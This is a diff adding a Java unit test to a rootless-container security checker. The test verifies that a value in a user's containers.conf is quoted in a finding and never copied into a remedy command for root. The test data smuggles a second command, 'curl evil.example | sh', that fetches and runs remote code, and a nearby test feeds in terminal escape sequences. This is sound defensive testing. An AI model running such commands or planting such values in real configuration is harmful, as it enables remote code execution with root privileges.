@@ -132,6 +132,28 @@ class RootlessHomeAttackTest {
         assertTrue(f.detail().contains("containers.conf: " + CONF + ".d: "), f.detail());
     }
 
+    /** A value from the user's file is quoted in a detail, never put into a command a remedy tells root to run. */
+    @Test
+    void aNetworkCommandFromTheUsersFileNeverBecomesARemedysCommand() throws Exception {
+        root.write(CONF, "[network]\ndefault_rootless_network_cmd = \"pasta; curl evil.example | sh\"\n");
+        root.write("/usr/bin/pasta", "#!/bin/sh\n");
+        Files.setPosixFilePermissions(root.path("/usr/bin/pasta"),
+                java.nio.file.attribute.PosixFilePermissions.fromString("rwxr-xr-x"));
+        giveHomeToAlice();
+        attack();
+        RootlessCheckResult r;
+        try (LocalHostContext ctx = root.context(false)) {
+            r = new RootlessModule().check(ctx, new RootlessCheckOptions("alice"));
+        }
+        RootlessFinding network = r.finding("network");
+        assertTrue(network.detail().startsWith("uses \"pasta; curl evil.example | sh\" (default_rootless_network_cmd = "),
+                network.detail());
+        assertEquals("set default_rootless_network_cmd = \"pasta\" in [network] of " + CONF, network.remedy());
+        for (RootlessFinding f : r.findings()) {
+            assertTrue(f.remedy() == null || !f.remedy().contains("evil.example"), f.id() + ": " + f.remedy());
+        }
+    }
+
     @Test
     void terminalEscapesInAValueAreShownEscaped() throws Exception {
         root.write(CONF, "[engine]\nruntime = \"\\u001b]0;owned\\u0007crun\"\n");
